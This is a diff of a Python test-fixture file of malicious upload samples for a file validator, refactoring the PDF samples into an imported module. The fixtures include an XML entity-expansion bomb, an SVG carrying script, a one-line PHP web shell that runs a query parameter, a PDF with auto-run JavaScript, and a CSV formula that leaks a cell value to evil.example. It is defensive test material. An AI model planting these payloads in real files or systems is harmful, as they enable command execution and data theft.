@@ -6,6 +6,8 @@ import zipfile
 import openpyxl
 from PIL import Image
 
+from tests.samples import pdfs
+
 LAUGHS = (
     '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
     + "".join(
@@ -93,6 +95,6 @@ SVG_WITH_SCRIPT = (
     b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 )
 PHP = b"<?php system($_GET['c']); ?>"
-PDF_OK = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
-PDF_WITH_JS = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF"
+PDF_OK = pdfs.PLAIN
+PDF_WITH_JS = pdfs.HOSTILE["openaction javascript"]
 CSV_FORMULA = '工单编号,诉求内容\nA1,=HYPERLINK("http://evil.example/?"&A1,"点击")\n'.encode()
